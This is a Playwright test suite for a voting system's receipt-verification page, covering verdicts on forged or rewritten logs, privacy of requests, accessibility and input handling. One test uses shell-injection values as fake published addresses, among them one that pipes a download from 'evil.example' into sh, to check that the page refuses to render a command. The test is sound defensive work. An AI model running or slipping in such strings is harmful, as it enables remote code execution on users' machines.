// The verify page: every verdict against logs of the test's own making, whatever is handed in and however, with nothing
// of it in any request; and the daemon's own log, from the vote to the verdict.
import assert from 'node:assert/strict';
import crypto from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { after, before, describe, test } from 'node:test';
import AxeBuilder from '@axe-core/playwright';
import { eventually, startInstance } from '../live/lib/instance.mjs';
import { newKey, printOpening, statement } from '../unit/js/tree.mjs';
import { Citizen, assertNoFaults, at, languages, launch, newBrowser, say } from './lib/browser.mjs';
import { PLACES, logOf, openingOf, resultKey, resultNote, runCount, served } from './lib/count.mjs';
import { startHost } from './lib/host.mjs';

const linkOf = (opening) => `#${Buffer.from(printOpening(opening)).toString('base64url')}`;

describe('verify', () => {
	let browser, count, log, openings, host, contest;
	before(async () => {
		count = await runCount();
		openings = Array.from({ length: 300 }, (_, i) => openingOf(count, i));
		log = logOf(count, openings);
		// A host of files, with the answers of the API that say how the contest stands, and what was certified.
		host = await startHost(new Map(), (target) => {
			const answers = contest ? { '': contest, '/results': [{ version: 1 }], '/results/1': contest.signed } : {};
			const body = answers[target.replace(`/v1/contests/${count.id}`, '')];
			return body ? { body: JSON.stringify(body) } : null;
		});
		browser = await launch();
	});
	after(async () => {
		await browser?.close();
		await host?.stop();
	});

	/** Serves this log (or any map of files), with the contest as it is now. */
	function serve(files = served(count, log), now = {}) {
		host.files.clear();
		for (const [name, bytes] of [...count.files, ...files])
			host.files.set(name, bytes);
		contest = { ...count.open, ...now };
		host.forget();
	}

	/** The contest once this log, at this size, was certified. */
	function certifying({ origin, rootAt }, size) {
		const document = JSON.stringify({ version: 1, log: [{ origin, root: rootAt(size).toString('base64'), shard: 0, size }] });
		return { phase: 'certified', signed: { document, note: resultNote(count, document) } };
	}

	async function open(language = 'ko', { fragment = '', ...options } = {}) {
		const context = await newBrowser(browser, host, { reducedMotion: 'reduce', ...options });
		const page = await context.newPage();
		await page.goto(at(language, '/verify/') + fragment);
		await page.locator('#form:not([aria-busy])').waitFor();
		return { context, page, language };
	}
	const give = ({ page }, text) => page.locator('#file').setInputFiles({ name: 'receipt.tlog-proof', mimeType: '', buffer: Buffer.from(text) });
	const verdict = async ({ page, language }, name) => {
		await page.getByRole('heading', { level: 2, name: say(language, `verdict.${name}`), exact: true }).waitFor();
		assert.equal(await page.evaluate(() => document.activeElement.id), 'verdict-title', 'the reader is taken to the verdict');
	};

	const shoot = async ({ page, language }, what) => process.env.SHOTS &&
		page.screenshot({ path: `${process.env.SHOTS}/verify-${what}-${language}.png`, fullPage: true });

	/** Nothing for axe to find, nothing to scroll sideways, no fault. */
	async function look({ context, page, language }, what) {
		const { violations } = await new AxeBuilder({ page })
			.withTags(['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']).analyze();
		assert.deepEqual(violations.map(({ id, nodes }) => `${what}: ${id}: ${nodes.map(({ target }) => target).join('; ')}`), []);
		assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), `${what} is too wide`);
		assertNoFaults(context);
		await shoot({ page, language }, what);
	}

	for (const language of languages('en'))
		test(`${language}: included; what the receipt opens is shown on request, and leaves the page in no request`, async () => {
			serve();
			const one = openings[71];
			const shown = await open(language);
			const { context, page } = shown;
			const sent = [];
			context.on('request', (request) => sent.push(request.url() + JSON.stringify(request.headers()) + (request.postData() ?? '')));
			await look(shown, 'before');
			await give(shown, log.proof(71, { size: 250 }));
			await verdict(shown, 'included');
			await page.getByText(say(language, 'next.included'), { exact: true }).waitFor();
			const name = count.open.entries[71 % 5].name[language];
			assert.equal(await page.getByText(name).count(), 0, 'nobody sees the choice over a shoulder');
			await page.getByRole('button', { name: say(language, 'verify.opens') }).click();
			await page.getByText(name, { exact: true }).waitFor();
			await page.getByRole('button', { name: say(language, 'verify.opens_hide') }).click();
			assert.equal(await page.getByText(name).count(), 0);
			await page.getByText(say(language, 'verify.details'), { exact: true }).click();
			assert.equal(await page.locator('.steps .step-good').count(), 6);
			assert.equal(await page.locator('.steps .step-bad').count(), 0);
			await page.getByText(log.entries[71].toString('base64')).waitFor();
			await page.locator('dd', { hasText: `${count.identity}+` }).waitFor();
			const head = await page.request.get(await page.locator('.verify-facts a').getAttribute('href'));
			assert.equal(await head.text(), log.checkpoint());
			await look(shown, 'included');
			assert.ok(sent.length >= 3, 'the contest, the checkpoint, and tiles');
			const secrets = [one.spent, one.salt, Buffer.from(one.ballot)].flatMap((bytes) =>
				['base64', 'base64url', 'hex'].map((form) => bytes.toString(form))).concat(log.entries[71].toString('base64'));
			for (const request of sent)
				for (const secret of secrets)
					assert.ok(!request.includes(secret) && !decodeURIComponent(request).includes(secret), request);
			assert.deepEqual(host.failed, []);
			assert.equal(await page.evaluate(() => JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])), '[{},{},""]');
			await context.close();
		});

	test('pending, and then sealed', async () => {
		for (const language of languages('en')) {
			serve(served(count, log, 200));
			const shown = await open(language, { fragment: linkOf(openings[250]) });
			await verdict(shown, 'pending');
			await shown.page.getByText(say(language, 'next.pending'), { exact: true }).waitFor();
			await look(shown, 'pending');
			serve();
			await shown.page.getByRole('button', { name: say(language, 'verify.again') }).click();
			await verdict(shown, 'included');
			await shown.context.close();
		}
	});

	test('every other verdict, in both languages, with what to do next', async () => {
		const before = logOf(count, openings.slice(0, 280));
		const next = logOf(count, [...openings.slice(0, 270), ...Array.from({ length: 20 }, (_, i) => openingOf(count, 270 + i))], { epoch: 2 });
		const anew = [...served(count, before), ...served(count, next), [`/log/${count.id}/0/epoch-2/statement`,
			Buffer.from(statement(next, before, 280, 270, count.keys.log))]];
		const other71 = logOf(count, openings.slice(0, 280).map((one, i) => i === 71 ? openingOf(count, 71) : one), { epoch: 2 });
		const altered = [...served(count, before), ...served(count, other71), [`/log/${count.id}/0/epoch-2/statement`,
			Buffer.from(statement(other71, before, 280, 280, count.keys.log))]];
		const shrunk = [...served(count, before), ...served(count, next), [`/log/${count.id}/0/epoch-2/statement`,
			Buffer.from(statement(next, before, 279, 270, count.keys.log))]];
		const rebuilt = logOf(count, openings.map((one, i) => i === 9 ? openingOf(count, 9) : one));
		const stranger = logOf(count, openings, { key: newKey() });
		const tampered = new Map(served(count, log));
		tampered.get(`/log/${count.id}/0/tile/0/000`)[32 * 100] ^= 1;
		const forged = log.proof(71).split('\n');
		forged[4] = crypto.randomBytes(32).toString('base64');
		const mixed = log.proof(71).split('\n');
		mixed[1] = log.proof(72).split('\n')[1];
		const small = served(count, log, 200);
		const other = logOf({ ...count, identity: 'elsewhere.example/vote/0' }, [{ ...openings[0], identity: 'elsewhere.example/vote/0' }]);
		const evidence = true;
		// All are drawn alike: axe looks at one of each kind.
		const looked = { ko: ['halted', 'log-rewritten'], en: ['foreign', 'missing-lost', 'behind'] };
		const cases = [
			['halted', linkOf(openings[250]), small, { log: 'halted' }],
			['missing-other', linkOf({ ...openings[71], salt: crypto.randomBytes(32) })],
			['missing-beyond', linkOf(openings[250]), small, certifying(log, 200)],
			['missing-lost', before.proof(275), anew, { epoch: 2 }],
			['missing-changed', before.proof(71), altered, { epoch: 2 }, evidence],
			['foreign', other.proof(0)],
			['foreign-shard', linkOf({ ...openings[71], identity: count.identity.replace(/0$/, '7') })],
			['foreign-shard', JSON.stringify({ ...log.receipt(71), contest: count.id, shard: 7 })],
			['forged-signature', log.proof(71, { signer: newKey() })],
			['forged-proof', forged.join('\n')],
			['forged-mixed', mixed.join('\n')],
			['log-checkpoint', log.proof(71), served(count, stranger)],
			['log-tiles', log.proof(71), tampered],
			['log-incomplete', log.proof(71), [...served(count, log)].filter(([name]) => !name.endsWith('/tile/0/000'))],
			['pending-epoch', before.proof(71), served(count, before), { epoch: 2 }],
			['behind', log.proof(71), small, {}, evidence],
			['log-certified', log.proof(71), small, certifying(log, 200), evidence],
			['behind', log.proof(71, { size: 150 }), small, certifying(log, 300), evidence],
			['log-shrunk', before.proof(71), shrunk, { epoch: 2 }, evidence],
			['log-rewritten', log.proof(71, { size: 250 }), served(count, rebuilt), {}, evidence],
			['log-epoch', before.proof(71), anew.slice(0, -1), { epoch: 2 }, evidence],
			['behind', log.proof(71), [], certifying(log, 300)],
			['off', log.proof(71), [], { log: 'off' }],
		];
		serve();
		for (const language of languages('en')) {
			const shown = await open(language);
			const { page } = shown;
			for (const [name, text, files, now, evidence = false] of cases) {
				serve(files, now);
				await page.locator('#text').fill(text);
				await page.locator('#form button[type=submit]').click();
				await verdict(shown, name);
				assert.equal(await page.getByText(say(language, 'verify.held')).count(), name === 'behind' ? 1 : 0, name);
				assert.equal(await page.getByText(say(language, 'verify.short'), { exact: true }).count(), name === 'behind' && evidence ? 1 : 0, name);
				await page.getByText(say(language, `next.${name}`, { name: 'elsewhere.example/vote/0' }), { exact: true }).waitFor();
				assert.equal(await page.getByRole('button', { name: say(language, 'verify.evidence') }).count(), evidence ? 1 : 0, name);
				assert.equal(await page.getByRole('button', { name: say(language, 'verify.opens') }).count(), 0, name);
				const calm = ['halted', 'pending-epoch', 'behind', 'foreign', 'off', 'log-incomplete'].includes(name);
				const contact = page.locator('#verdict').getByRole('link', { name: say(language, 'verify.contact') });
				assert.equal(await contact.count(), calm ? 0 : 1, name);
				if (!calm)
					assert.equal(await contact.getAttribute('href'), await page.locator('#contact').evaluate((link) => link.href));
				assert.equal(await page.locator('#text').inputValue(), '', 'what was pasted does not stay on the screen');
				if (looked[language].includes(name))
					await look(shown, name);
				else
					await shoot(shown, name);
			}
			assertNoFaults(shown.context);
			await shown.context.close();
		}
	});

	test('a receipt of a rehearsal, and one of a shard that cannot count it: told apart, with advice', async () => {
		const odd = Buffer.from(openings[71].spent);
		odd.writeUInt32BE(1);
		const cases = [['foreign-rehearsal', { rehearsal: false }, openings[71]],
			['foreign-real', {}, { ...openings[71], identity: count.identity.replace('~rehearsal', '') }], ['forged-shard', { shards: 2 }, { ...openings[71], spent: odd }]];
		for (const language of languages('en'))
			for (const [name, changes, opening] of cases) {
				const site = JSON.parse(count.files.get('/site.json'));
				Object.assign(site.contests[0], changes);
				serve([...served(count, log), ['/site.json', Buffer.from(JSON.stringify(site))]], changes);
				const shown = await open(language, { fragment: linkOf(opening) });
				await verdict(shown, name);
				await shown.page.getByText(say(language, `next.${name}`), { exact: true }).waitFor();
				await look(shown, name);
				await shown.context.close();
			}
	});

	test('a receipt without the choice: the entry is in the log, and no more is said', async () => {
		serve();
		for (const language of languages('en')) {
			const shown = await open(language);
			for (const text of [log.proof(71, { extra: false }), JSON.stringify({ ...log.receipt(71), contest: count.id })]) {
				await give(shown, text);
				await verdict(shown, 'included-entry');
				await shown.page.getByText(say(language, 'verify.opens_not'), { exact: true }).waitFor();
				await shown.page.getByText(say(language, 'next.included'), { exact: true }).waitFor();
				assert.equal(await shown.page.getByRole('button', { name: say(language, 'verify.opens') }).count(), 0);
				assert.equal(await shown.page.getByText(say(language, 'verdict.included'), { exact: true }).count(), 0);
			}
			await look(shown, 'included-entry');
			// Of another round: before anybody is suspected, what to look at first.
			await give(shown, JSON.stringify({ ...log.receipt(71), contest: count.id, index: 70 }));
			await verdict(shown, 'missing-other');
			await shown.page.getByText(say(language, 'verify.which_round'), { exact: true }).waitFor();
			await shown.context.close();
		}
	});

	test('the evidence of a rewritten log is two signatures, and not the choice', async () => {
		const rebuilt = logOf(count, openings.map((one, i) => i === 9 ? openingOf(count, 9) : one));
		serve(served(count, rebuilt));
		const shown = await open('en');
		await give(shown, log.proof(71, { size: 250 }));
		await verdict(shown, 'log-rewritten');
		const [file] = await Promise.all([shown.page.waitForEvent('download'),
			shown.page.getByRole('button', { name: say('en', 'verify.evidence') }).click()]);
		assert.equal(await readFile(await file.path(), 'utf8'), `${log.checkpoint(250)}\n${rebuilt.checkpoint()}`);
		// One that ends where the receipt's hashes do not reach it: nobody is accused, and both are kept.
		const hidden = logOf(count, openings.slice(0, 100).map((one, i) => i === 99 ? openingOf(count, 99) : one));
		serve(served(count, hidden));
		await give(shown, log.proof(71, { size: 250 }));
		await verdict(shown, 'behind');
		await shown.page.getByText(say('en', 'verify.short'), { exact: true }).waitFor();
		const [both] = await Promise.all([shown.page.waitForEvent('download'),
			shown.page.getByRole('button', { name: say('en', 'verify.evidence') }).click()]);
		assert.equal(await readFile(await both.path(), 'utf8'), `${log.checkpoint(250)}\n${hidden.checkpoint()}`);
		await shown.context.close();
	});

	test('a new epoch: said with the numbers of its signed statement', async () => {
		const before = logOf(count, openings.slice(0, 280));
		const next = logOf(count, openings.slice(0, 275), { epoch: 2 });
		serve([...served(count, before), ...served(count, next), [`/log/${count.id}/0/epoch-2/statement`,
			Buffer.from(statement(next, before, 280, 275, count.keys.log))]], { epoch: 2 });
		for (const language of languages('en')) {
			const shown = await open(language);
			await give(shown, before.proof(71, { size: 200 }));
			await verdict(shown, 'included');
			await shown.page.getByText(say(language, 'verify.restarted', { epoch: 2, size: 280, ballots: 275 })).waitFor();
			await shown.page.getByText(say(language, 'verify.restarted_gap', { from: 275 })).waitFor();
			await look(shown, 'epoch');
			await shown.context.close();
		}
	});

	for (const language of languages('en'))
		test(`${language}: where the published copy will stand, and the key, before anybody knows the result; then the way there`, async () => {
			const context = await newBrowser(browser, host, { permissions: ['clipboard-read', 'clipboard-write'], reducedMotion: 'reduce' });
			const page = await context.newPage();
			const fold = page.locator('#how-to-verify');
			const key = resultKey(count);
			const lines = PLACES.map((place) => `tallyctl verify --key '${key}' ${place}`);
			const unfold = async (target) => {
				await page.goto(at(language, target));
				await fold.getByText(say(language, 'published.how'), { exact: true }).click();
			};
			for (const target of ['/verify/', '/help/'])
				for (const [phase, when] of [['open', 'later'], ['provisional', 'later'], ['certified', 'now']]) {
					serve(undefined, { phase });
					await unfold(target);
					for (const what of ['what', 'where', 'key'])
						await fold.getByText(say(language, `published.${what}_${when}`), { exact: true }).waitFor();
					assert.deepEqual(await fold.locator('li').allTextContents(), PLACES);
					assert.deepEqual(await fold.locator('a').evaluateAll((all) => all.map(({ href }) => href)), when === 'now' ? PLACES : [], phase);
					assert.deepEqual(await fold.locator('pre').allTextContents(), lines);
					assert.equal(await fold.locator('.hash').textContent(), key);
					if (phase !== 'provisional')
						await look({ context, page, language }, `where${target.replaceAll('/', '-')}${phase}`);
				}
			for (const [name, copied, nth] of [['published.copy_key', key, 0], ['published.copy_command', lines[1], 1]]) {
				await fold.getByRole('button', { name: say(language, name), exact: true }).nth(nth).click();
				await fold.getByRole('button', { name: say(language, 'copied'), exact: true }).waitFor();
				assert.equal(await page.evaluate(() => navigator.clipboard.readText()), copied);
				await unfold('/help/');
			}
			// Where none is announced, or what would do something else in a shell, the key is told all the same, and no command.
			const others = ['https://count.example/;curl$IFS$9evil.example|sh', 'https://count.example/ $(id)', 'https://count.example/x\ny'];
			for (const published_at of [others, undefined]) {
				serve(undefined, { published_at, phase: 'certified' });
				await unfold('/verify/');
				await fold.getByText(say(language, 'published.where_none'), { exact: true }).waitFor();
				assert.equal(await fold.locator('.hash').textContent(), key);
				assert.equal(await fold.locator('pre, li').count(), 0);
			}
			await look({ context, page, language }, 'where-none');
			await context.close();
		});

	test('the address of a QR code: checked at once, and gone from the address bar', async () => {
		serve();
		for (const language of languages('en')) {
			const shown = await open(language, { fragment: linkOf(openings[12]) });
			const { page } = shown;
			await verdict(shown, 'included');
			assert.equal(new URL(page.url()).hash, '');
			assert.equal(await page.evaluate(() => history.length), 2, 'about:blank and this page');
			assert.equal(await page.evaluate(() => sessionStorage.length), 0);
			// Another code, opened in the same tab.
			await page.evaluate((hash) => {
				location.hash = hash;
			}, linkOf(openings[13]));
			await page.getByText(say(language, 'verify.details'), { exact: true }).click();
			await page.locator('dd', { hasText: /^13$/ }).waitFor();
			assert.equal(new URL(page.url()).hash, '');
			await page.reload();
			await page.locator('#form:not([aria-busy])').waitFor();
			assert.equal(await page.locator('#verdict').isVisible(), false, 'nothing of it stays');
			await shown.context.close();
		}
		for (const request of host.asked)
			assert.doesNotMatch(request, /#|dGFsbHlk/);
	});

	test('the same where storage is blocked', async () => {
		serve();
		const context = await newBrowser(browser, host);
		await context.addInitScript(() => {
			for (const name of ['localStorage', 'sessionStorage'])
				Object.defineProperty(window, name, { get: () => { throw new DOMException('blocked', 'SecurityError'); } });
		});
		const page = await context.newPage();
		await page.goto(`/verify/${linkOf(openings[12])}`);
		await verdict({ page, language: 'ko' }, 'included');
		assert.equal(new URL(page.url()).hash, '');
		assertNoFaults(context);
		await context.close();
	});

	test('pictures of a QR code, where the browser reads them', async () => {
		serve();
		const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
		const picture = (page, id) => page.locator(id).setInputFiles({ name: 'code.png', mimeType: 'image/png', buffer: png });
		for (const language of languages('en')) {
			const shown = await open(language);
			assert.equal(await shown.page.locator('#picture-label').isVisible(), false);
			await shown.page.locator('#scan').waitFor();
			await picture(shown.page, '#file');
			await shown.page.getByText(say(language, 'verify.input.no_scanner')).waitFor();
			await shown.context.close();

			const context = await newBrowser(browser, host);
			await context.addInitScript(() => {
				window.BarcodeDetector = class {
					static getSupportedFormats = async () => ['qr_code'];
					detect = async (bitmap) => bitmap instanceof ImageBitmap && window.code ? [{ rawValue: window.code }] : [];
				};
			});
			const page = await context.newPage();
			await page.goto(at(language, '/verify/'));
			await page.locator('#picture-label').waitFor();
			assert.equal(await page.locator('#scan').isVisible(), false);
			assert.equal(await page.locator('#picture').getAttribute('capture'), 'environment');
			await picture(page, '#picture');
			await page.getByText(say(language, 'verify.input.no_code')).waitFor();
			await page.evaluate((code) => {
				window.code = code;
			}, `${host.url}/verify/${linkOf(openings[40])}`);
			await picture(page, '#picture');
			await verdict({ page, language }, 'included');
			assertNoFaults(context);
			await context.close();
		}
	});

	test('a file or a text that is dropped anywhere on the page', async () => {
		serve();
		const shown = await open();
		const drop = (kind, text) => shown.page.evaluate(([kind, text]) => {
			const dataTransfer = new DataTransfer();
			if (kind === 'file')
				dataTransfer.items.add(new File([text], 'a.tlog-proof'));
			else
				dataTransfer.setData('text/plain', text);
			for (const type of ['dragover', 'drop'])
				document.querySelector('h1').dispatchEvent(new DragEvent(type, { dataTransfer, bubbles: true, cancelable: true }));
		}, [kind, text]);
		await drop('file', log.proof(5));
		await verdict(shown, 'included');
		await drop('text', 'nothing of the kind');
		await shown.page.getByText(say('ko', 'verify.input.unknown')).waitFor();
		assert.equal(await shown.page.locator('#verdict').isVisible(), false, 'no verdict of something else stands beside');
		await drop('text', log.proof(6));
		await verdict(shown, 'included');
		assert.equal(await shown.page.locator('#error').isVisible(), false);
		await shown.context.close();
	});

	test('what is no receipt is told apart, and what to do', async () => {
		serve();
		const proof = log.proof(3);
		const cases = [['empty', '  '], ['unknown', '안녕하세요'], ['invitation', 'https://vote.example/expert/#token=a.b.c'],
			['broken_proof', proof.slice(0, 200)], ['broken_opening', 'tallyd opening v1\nx\n'], ['broken_receipt', '{"contest":'],
			['broken_link', `${host.url}/verify/${linkOf(openings[3]).slice(0, -12)}`], ['too_long', 'x'.repeat(70_000)]];
		for (const language of languages('en')) {
			const shown = await open(language);
			const { page } = shown;
			for (const [key, text] of cases) {
				await page.locator('#text').fill(text);
				await page.locator('#form button[type=submit]').click();
				const alert = page.getByRole('alert').filter({ hasText: say(language, `verify.input.${key}`) });
				await alert.waitFor();
				assert.equal(await page.evaluate(() => document.activeElement.id), 'error');
				assert.equal(await page.locator('#text').getAttribute('aria-invalid'), 'true');
			}
			await look(shown, 'not-a-receipt');
			await shown.context.close();
		}
	});

	test('files that a browser kept of another log at the same addresses: nobody is accused', async () => {
		const rehearsal = logOf(count, Array.from({ length: 300 }, (_, i) => openingOf(count, i)));
		const kept = [['/_headers', Buffer.from(`${count.files.get('/_headers')}\n/log/*\n  Cache-Control: public, max-age=31536000, immutable\n`)]];
		for (const [text, name] of [[log.proof(71), 'included'], [log.proof(71, { extra: false }), 'included-entry'],
			[rehearsal.proof(71), 'log-rewritten']]) {
			serve([...served(count, rehearsal), ...kept]);
			const shown = await open('en');
			await give(shown, rehearsal.proof(71));
			await verdict(shown, 'included');
			await give(shown, rehearsal.proof(71, { extra: false }));
			await shown.page.getByText(say('en', 'verify.opens_not')).waitFor();
			serve([...served(count, log), ...kept]);
			await give(shown, text);
			await shown.page.locator('#verdict:not([aria-busy])').waitFor();
			await verdict(shown, name);
			await shown.context.close();
		}
	});

	test('the log cannot be read, or not all of it: nobody is accused', async () => {
		serve();
		const shown = await open('en');
		await shown.context.route('**/log/**', (route) => route.abort());
		await give(shown, log.proof(71));
		await verdict(shown, 'unreachable');
		await shown.page.getByText(say('en', 'verify.held')).waitFor();
		await shown.context.unroute('**/log/**');
		await shown.page.getByRole('button', { name: say('en', 'verify.again') }).click();
		await verdict(shown, 'included');
		// The API alone is away: the log's files are enough.
		await shown.context.route('**/v1/**', (route) => route.abort());
		await give(shown, log.proof(72));
		await shown.page.getByText(say('en', 'verify.unknown_phase')).waitFor();
		await verdict(shown, 'included');
		await shown.context.close();
	});

	for (const language of languages('en'))
		test(`${language}: the keyboard alone`, async () => {
			serve();
			const shown = await open(language);
			const { page } = shown;
			const tabTo = async (id) => {
				for (let i = 0; i < 40; i++) {
					const now = await page.evaluate(() => document.activeElement.id || document.activeElement.textContent.trim());
					if (now === id)
						return;
					await page.keyboard.press('Tab');
				}
				assert.fail(`no way to ${id} with Tab`);
			};
			const choosers = []; // listened for from the start: the browser has to be told before the key is pressed
			page.on('filechooser', (chooser) => choosers.push(chooser));
			await tabTo('file');
			const ring = await page.locator('label:has(#file)').evaluate((label) => getComputedStyle(label).outlineStyle);
			assert.equal(ring, 'solid', 'the file button shows its focus');
			await page.keyboard.press('Enter');
			await eventually(() => choosers.length === 1, 'the file chooser');
			await choosers[0].setFiles([]);
			await tabTo('text');
			await page.keyboard.insertText(log.proof(71));
			await page.keyboard.press('Tab');
			await page.keyboard.press('Enter');
			await verdict(shown, 'included');
			await tabTo(say(language, 'verify.opens'));
			await page.keyboard.press('Enter');
			await page.getByText(count.open.entries[1].name[language], { exact: true }).waitFor();
			await tabTo(say(language, 'verify.details'));
			await page.keyboard.press('Enter');
			await page.locator('.steps').waitFor();
			assertNoFaults(shown.context);
			await shown.context.close();
		});

	test('320 pixels in the largest type, dark, in forced colours', async () => {
		serve();
		for (const [language, options] of [['ko', { colorScheme: 'dark' }], ['en', { forcedColors: 'active' }]]) {
			const context = await newBrowser(browser, host, { viewport: { width: 320, height: 640 }, isMobile: true, ...options });
			await context.addInitScript(() => location.protocol === 'http:' && localStorage.setItem('tallyd.size', '3'));
			const page = await context.newPage();
			await page.goto(at(language, '/verify/') + linkOf(openings[71]));
			const shown = { context, page, language };
			await verdict(shown, 'included');
			await page.getByText(say(language, 'verify.details'), { exact: true }).click();
			await look(shown, `narrow-${options.colorScheme ?? 'forced'}`);
			const small = await page.locator('main').locator('button:visible, label.button:visible, summary:visible').evaluateAll((all) =>
				all.map((one) => [one.textContent, one.getBoundingClientRect().height]).filter(([, height]) => height < 44));
			assert.deepEqual(small, []);
			await context.close();
		}
	});

	describe('with the daemon', () => {
		let instance;
		before(async () => {
			instance = await startInstance();
		});
		after(() => instance?.stop());

		for (const language of languages('en'))
			test(`${language}: from the vote to the verdict, by what this browser keeps, and by the receipt alone`, async () => {
				const context = await newBrowser(browser, instance);
				const citizen = new Citizen(await context.newPage(), language);
				await citizen.vote(0);
				const { receipt } = await citizen.record();
				const { page } = citizen;
				await page.goto(at(language, '/verify/'));
				await page.locator('#kept').click();
				const shown = { page, language };
				const title = page.locator('#verdict-title');
				await title.waitFor();
				while (await title.textContent() === say(language, 'verdict.pending')) {
					await page.getByRole('button', { name: say(language, 'verify.again') }).click();
					await page.locator('#verdict:not([aria-busy])').waitFor();
				}
				await verdict(shown, 'included');
				// The receipt's own JSON says the same, without the choice.
				await page.locator('#text').fill(JSON.stringify(receipt));
				await page.locator('#form button[type=submit]').click();
				await page.getByText(say(language, 'verify.opens_not')).waitFor();
				await verdict(shown, 'included-entry');
				assertNoFaults(context);
				await context.close();
			});

		test('a server\'s proof as it stands', async () => {
			const context = await newBrowser(browser, instance);
			const page = await context.newPage();
			await page.goto('/verify/');
			const proof = await instance.get(`/v1/contests/${instance.site.contests[0].id}/receipts/0/0`);
			assert.equal(proof.status, 200, proof.text);
			await page.locator('#text').fill(proof.text);
			await page.locator('#form button[type=submit]').click();
			await verdict({ page, language: 'ko' }, 'included-entry');
			assertNoFaults(context);
			await context.close();
		});
	});
});
